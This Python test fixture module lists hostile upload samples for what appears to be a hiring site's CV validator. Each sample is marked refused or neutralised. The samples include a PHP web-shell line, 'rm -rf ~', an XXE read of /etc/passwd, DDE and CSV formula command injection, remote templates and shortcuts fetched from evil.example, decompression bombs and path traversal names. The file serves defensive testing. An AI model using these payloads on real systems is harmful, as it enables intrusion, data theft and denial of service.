"""Hostile files by name: what each is, and whether it is refused or made harmless."""

import zlib
from collections.abc import Callable

from tests.hiring import builders as make

Maker = Callable[[], bytes]
JS = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SCRIPT = b"alert(document.cookie)//"
ZIPPED = make.archive({"evil.class": b"\xca\xfe\xba\xbe"})
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
BILLION = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
EXTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FILESPEC = b"<< /Type /Filespec /F (cv.exe) /EF << /F 6 0 R >> >>"
BIG = 9 * 2**20
PADDED = b" " * 40_000_000


def _in_page(action: bytes) -> Maker:
    return lambda: make.pdf(catalog=b"/OpenAction " + action)


REFUSED: dict[str, tuple[str, Maker]] = {
    # Not what they say
    "svg": ("photo.svg", lambda: SVG),
    "svg named png": ("photo.png", lambda: SVG),
    "svg after a declaration": ("photo.svg", lambda: b'<?xml version="1.0"?>\n<!-- x -->' + SVG),
    "svg in utf-16": ("photo.svg", lambda: SVG.decode().encode("utf-16")),
    "html": ("cv.html", lambda: PAGE),
    "html named txt": ("cv.txt", lambda: b"\n\n   " + PAGE),
    "html after words": ("cv.txt", lambda: b"Bonjour\n" + PAGE),
    "html with a mark": ("cv.txt", lambda: b"\xef\xbb\xbf" + PAGE),
    "html in utf-16": ("cv.txt", lambda: PAGE.decode().encode("utf-16")),
    "php": ("cv.txt", lambda: b"<?php system($_GET['x']); ?>"),
    "shell script": ("cv.txt", lambda: b"#!/bin/sh\nrm -rf ~\n"),
    "script by its name": ("cv.js", lambda: b"WScript.Shell\n"),
    "script by its first of two names": ("cv.vbs.txt", lambda: b'CreateObject("WScript.Shell")\n'),
    "batch file": ("cv.bat", lambda: b"del *.*\r\n"),
    "internet shortcut": ("cv.txt", lambda: b"[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n"),
    "rich text": ("cv.rtf", lambda: rb"{\rtf1{\object\objocx}}"),
    "postscript": ("cv.txt", lambda: b"%!PS-Adobe-3.0\n(x) run\n"),
    "windows program": ("cv.pdf", lambda: b"MZ\x90\0" + bytes(500)),
    "windows program with two endings": ("cv.pdf.exe", lambda: b"MZ\x90\0" + bytes(500)),
    "linux program": ("cv", lambda: b"\x7fELF\x02\x01\x01\0" + bytes(500)),
    "old word document": ("cv.doc", lambda: OLE),
    "moving gif": ("cv.gif", lambda: b"GIF89a\x01\0\x01\0\0\0\0;"),
    "gif that is a java archive": ("cv.gif", lambda: b"GIF89a\x01\0\x01\0\0\0\0;" + ZIPPED),
    "archive": ("cv.zip", lambda: ZIPPED),
    "archive named docx": ("cv.docx", lambda: ZIPPED),
    "empty archive": ("cv.docx", lambda: b"PK\x05\x06" + bytes(18)),
    "gzip bomb": ("cv.gz", lambda: zlib.compress(PADDED, 9, 31)),
    "bytes without a sense": ("cv.txt", lambda: bytes(range(256)) * 40),
    # Two kinds in one
    "pdf and archive": ("cv.pdf", lambda: make.pdf(tail=ZIPPED)),
    "pdf and page": ("cv.pdf", lambda: make.pdf(head=b"%PDF-1.4\n%" + PAGE + b"\n")),
    "page before a pdf": ("cv.pdf", lambda: PAGE + make.pdf()),
    "page after a pdf": ("cv.pdf", lambda: make.pdf(tail=PAGE)),
    "picture before a pdf": ("cv.pdf", lambda: b"GIF89a=1;" + make.pdf()),
    "pdf that unpacks as rar": ("cv.pdf", lambda: make.pdf(tail=b"Rar!\x1a\x07\x00xxxx")),
    "pdf and tar": ("cv.pdf", lambda: make.tar_inside(make.pdf())),
    "png and archive": ("moi.png", lambda: make.png() + ZIPPED),
    "png and script": ("moi.png", lambda: make.png() + SCRIPT),
    "png with a page in its words": (
        "moi.png",
        lambda: make.png()[:33] + make.chunk(b"tEXt", b"Comment\0" + PAGE) + make.png()[33:],
    ),
    "png and pdf": ("moi.png", lambda: make.png()[:33] + make.chunk(b"tEXt", make.pdf()) + make.png()[33:]),
    "jpeg and archive": ("moi.jpg", lambda: make.jpeg() + ZIPPED),
    "jpeg and script": ("moi.jpg", lambda: b"\xff\xd8\xff\xe0/*" + make.jpeg()[6:] + b"*/=alert(1)"),
    "jpeg and php": ("moi.jpg", lambda: make.jpeg()[:20] + b"<?php evil(); ?>" + make.jpeg()[20:]),
    "jpeg and pdf": ("moi.jpg", lambda: make.jpeg()[:20] + make.pdf() + make.jpeg()[20:]),
    "webp and archive": ("moi.webp", lambda: make.webp() + ZIPPED),
    "docx behind a program": ("cv.docx", lambda: b"MZ\x90\0" + make.docx()),
    "docx with a page before its directory": ("cv.docx", lambda: b"PK\x03\x04" + PAGE + make.docx()),
    "docx and disk image": ("cv.docx", lambda: make.docx({"word/media/a.bin": bytes(70_000)}).ljust(40_000)),
    "text and pdf": ("cv.txt", lambda: b"Bonjour\n" * 20 + make.pdf()),
    # PDFs that act
    "pdf with javascript": ("cv.pdf", _in_page(JS)),
    "pdf with javascript in numbers": ("cv.pdf", _in_page(b"<< /S /J#61vaScr#69pt /JS (x) >>")),
    "pdf with javascript behind a comment": ("cv.pdf", _in_page(b"<< /S % rien\n /JavaScript /JS (x) >>")),
    "pdf with javascript by name": ("cv.pdf", lambda: make.pdf(catalog=b"/Names << /JavaScript 5 0 R >>")),
    "pdf with javascript in an object stream": ("cv.pdf", lambda: make.pdf(make.object_stream(JS))),
    "pdf with an object stream in numbers": (
        "cv.pdf",
        lambda: make.pdf(make.packed(b"10 0 " + JS, b"/Type /Obj#53tm /N 1 /First 5")),
    ),
    "pdf that hides its objects twice": (
        "cv.pdf",
        lambda: make.pdf(make.stream(b"GapQh~>", b"/Type /ObjStm /N 1 /First 5 /Filter [/ASCII85Decode /FlateDecode]")),
    ),
    "pdf that starts a program": ("cv.pdf", _in_page(b"<< /S /Launch /F (cmd.exe) >>")),
    "pdf that opens its attachment": ("cv.pdf", _in_page(b"<< /S /GoToE /T << /R /C >> >>")),
    "pdf with a dynamic form": ("cv.pdf", lambda: make.pdf(catalog=b"/AcroForm << /XFA [5 0 R] >>")),
    "pdf with rich media": ("cv.pdf", lambda: make.pdf(b"<< /Type /Annot /Subtype /RichMedia >>")),
    "pdf with a program in it": ("cv.pdf", lambda: make.pdf(FILESPEC, make.packed(b"MZ\x90\0" + bytes(99)))),
    "pdf with an archive in it": ("cv.pdf", lambda: make.pdf(FILESPEC, make.stream(ZIPPED))),
    "pdf with a page in it": ("cv.pdf", lambda: make.pdf(FILESPEC, make.packed(PAGE))),
    "pdf with something hidden in it": ("cv.pdf", lambda: make.pdf(FILESPEC, make.stream(b"4D5A>", b"/Filter /AHx"))),
    "pdf bomb of objects": ("cv.pdf", lambda: make.pdf(make.packed(PADDED, b"/Type /ObjStm /N 1 /First 5"))),
    "pdf of nothing but streams": ("cv.pdf", lambda: b"%PDF-1.4 /ObjStm " + b"stream\n" * 1_200_000),
    "pdf of nothing but names": ("cv.pdf", lambda: b"%PDF-1.4 " + b"/JavaScript " * 750_000),
    # Archives
    "docx bomb": ("cv.docx", lambda: make.docx({"word/media/a.xml": PADDED})),
    "docx bomb that lies": (
        "cv.docx",
        lambda: make.lying_about_size(make.docx({"word/bomb.xml": PADDED}), b"word/bomb.xml"),
    ),
    "docx bomb of entries that overlap": ("cv.docx", make.overlapping),
    "docx of 70,000 entries": ("cv.docx", lambda: make.many_entries(70_000)),
    "docx of 3,000 entries": ("cv.docx", lambda: make.docx({f"word/{n}.xml": b"<a/>" for n in range(3000)})),
    "docx with a macro": ("cv.docx", lambda: make.docx({"word/vbaProject.bin": OLE})),
    "docx with a macro by another name": ("cv.docx", lambda: make.docx({"word/media/image1.png": OLE})),
    "docx that says macro": (
        "cv.docx",
        lambda: make.docx(
            types='<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
    ),
    "docm": ("cv.docx", lambda: make.docx({"[Content_Types].xml": b"document.macroEnabled.main+xml"})),
    "docx with an object": ("cv.docx", lambda: make.docx({"word/embeddings/oleObject1.bin": OLE})),
    "docx with a control": ("cv.docx", lambda: make.docx({"word/activeX/activeX1.xml": b"<a/>"})),
    "docx with a program": ("cv.docx", lambda: make.docx({"word/media/image1.jpeg": b"MZ\x90\0" + bytes(99)})),
    "docx with an archive": ("cv.docx", lambda: make.docx({"word/media/image1.jpeg": ZIPPED})),
    "docx with a template from elsewhere": (
        "cv.docx",
        lambda: make.docx(relations=make.relation("attachedTemplate", "https://evil.example/t.dotm")),
    ),
    "docx with a template in numbers": (
        "cv.docx",
        lambda: make.docx(relations=make.relation("attachedTemplate", "http&#58;&#47;&#47;evil.example&#47;t")),
    ),
    "docx with a template on a share": (
        "cv.docx",
        lambda: make.docx(relations=make.relation("attachedTemplate", r"file:///\\evil.example\t.dotm")),
    ),
    "docx with a picture from elsewhere": (
        "cv.docx",
        lambda: make.docx(relations=make.relation("image", r"\\evil.example\x.png")),
    ),
    "docx with another document in it": (
        "cv.docx",
        lambda: make.docx(relations=make.relation("aFChunk", "a.mht", "Internal")),
    ),
    "docx that asks other programs": (
        "cv.docx",
        lambda: make.docx(
            body="<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>"
        ),
    ),
    "docx with a billion laughs": ("cv.docx", lambda: make.docx({"word/styles.xml": BILLION})),
    "docx with an entity from a file": ("cv.docx", lambda: make.docx({"word/document.xml": EXTERNAL_ENTITY})),
    "docx with entities in utf-16": (
        "cv.docx",
        lambda: make.docx({"word/document.xml": EXTERNAL_ENTITY.decode().encode("utf-16")}),
    ),
    "docx in a rare encoding": (
        "cv.docx",
        lambda: make.docx({"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/>'}),
    ),
    "docx with a path": ("cv.docx", lambda: make.docx({"../../etc/cron.d/x": b"x"})),
    "docx with a path of Windows": ("cv.docx", lambda: make.docx({"word\\..\\..\\x": b"x"})),
    "docx locked": ("cv.docx", lambda: make.locked(make.docx())),
    "docx with an entry twice": (
        "cv.docx",
        lambda: make.docx({"word/a.xml": b"<a/>", "word/A.xml": b"<b/>"}),
    ),
    "docx cut off": ("cv.docx", lambda: make.docx()[:-60]),
    "odt with a macro": ("cv.odt", lambda: make.odt({"Basic/Standard/Module1.xml": b"<a/>"})),
    "odt with a script": ("cv.odt", lambda: make.odt({"Scripts/python/x.py": b"import os"})),
    "odt that runs when it opens": (
        "cv.odt",
        lambda: make.odt(body='<script:event-listener script:language="ooo:script"/>'),
    ),
    "odt with a macro behind a link": (
        "cv.odt",
        lambda: make.odt(body='<text:a xlink:href="vnd.sun.star.script:x$y?language=Python">x</text:a>'),
    ),
    "odt with an applet": ("cv.odt", lambda: make.odt(body='<draw:applet draw:code="x"/>')),
    "odt with a part from elsewhere": (
        "cv.odt",
        lambda: make.odt(body='<text:section-source xlink:href="https://evil.example/x.odt"/>'),
    ),
    "odt with an old object": ("cv.odt", lambda: make.odt({"Object 1": OLE})),
    "odt locked": ("cv.odt", lambda: make.odt({"META-INF/manifest.xml": b"<manifest:encryption-data/>"})),
    "odt that is a sheet": ("cv.odt", lambda: make.odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")),
    "odt with a billion laughs": ("cv.odt", lambda: make.odt({"content.xml": BILLION})),
    "odt bomb": ("cv.odt", lambda: make.odt({"content.xml": PADDED})),
    # Pictures
    "png bomb": ("moi.png", lambda: make.png_that_says(60_000, 60_000)),
    "png of no height": ("moi.png", lambda: make.png_that_says(100, 0)),
    "png very long": ("moi.png", lambda: make.png_that_says(1, 1_000_000)),
    "png cut off": ("moi.png", lambda: make.png()[:-20]),
    "png that moves": ("moi.png", lambda: make.png()[:33] + make.chunk(b"acTL", bytes(8)) + make.png()[33:]),
    "png of empty chunks": (
        "moi.png",
        lambda: make.png()[:33] + make.chunk(b"tEXt", b"") * 700_000 + make.png()[33:],
    ),
    "jpeg bomb": ("moi.jpg", lambda: make.jpeg_that_says(65_000, 65_000)),
    "jpeg of nothing": ("moi.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(BIG)),
    "webp bomb": ("moi.webp", lambda: make.webp_that_says(16_383, 16_383)),
    "webp that moves": ("moi.webp", lambda: make.webp_that_says(10, 10, flags=2)),
    "webp cut off": ("moi.webp", lambda: make.webp()[:20]),
    # Size
    "nothing": ("cv.pdf", lambda: b""),
    "too large": ("cv.txt", lambda: b"a" * (11 * 2**20)),
}

NEUTRALISED: dict[str, tuple[str, Maker, str]] = {
    # What is good inside and badly named: kept under a name that is safe. The third is that name.
    "path": ("../../../etc/passwd.pdf", make.pdf, "passwd.pdf"),
    "path of Windows": ("C:\\Users\\x\\cv.pdf", make.pdf, "cv.pdf"),
    "right to left": ("cv\u202efdp.exe", make.pdf, "cvfdp.pdf"),
    "right to left, isolated": ("cv\u2067fdp.scr", make.pdf, "cvfdp.pdf"),
    "control characters": ("cv\r\nSet-Cookie: x=1\0.pdf", make.pdf, "cv Set-Cookie_ x=1.pdf"),
    "two endings": ("cv.pdf.exe", make.pdf, "cv.pdf"),
    "three endings": ("cv.pdf.js.exe", make.pdf, "cv.pdf"),
    "ending of another kind": ("cv.html", make.pdf, "cv.pdf"),
    "picture as a page": ("moi.svg", make.png, "moi.png"),
    "text as a sheet": ("notes.csv", lambda: b"=cmd|' /C calc'!A0", "notes.csv.txt"),
    "reserved by Windows": ("CON.pdf", make.pdf, "_CON.pdf"),
    "stream of Windows": ("cv.pdf:evil.exe", make.pdf, "cv.pdf_evil.pdf"),
    "hidden": (".htaccess", lambda: b"Options None", "htaccess.txt"),
    "dots alone": ("...", make.pdf, "document.pdf"),
    "no name": ("", make.pdf, "document.pdf"),
    "invisible": ("\u200b\u2060", make.pdf, "document.pdf"),
    "very long": ("a" * 5000 + ".pdf", make.pdf, "a" * 146 + ".pdf"),
    "very long in bytes": ("漢" * 500 + ".pdf", make.pdf, "漢" * 65 + ".pdf"),
    "markup": ('"><img src=x onerror=alert(1)>.pdf', make.pdf, "___img src=x onerror=alert(1)_.pdf"),
    "spaces before the ending": ("cv.pdf" + " " * 100 + ".exe", make.pdf, "cv.pdf"),
}
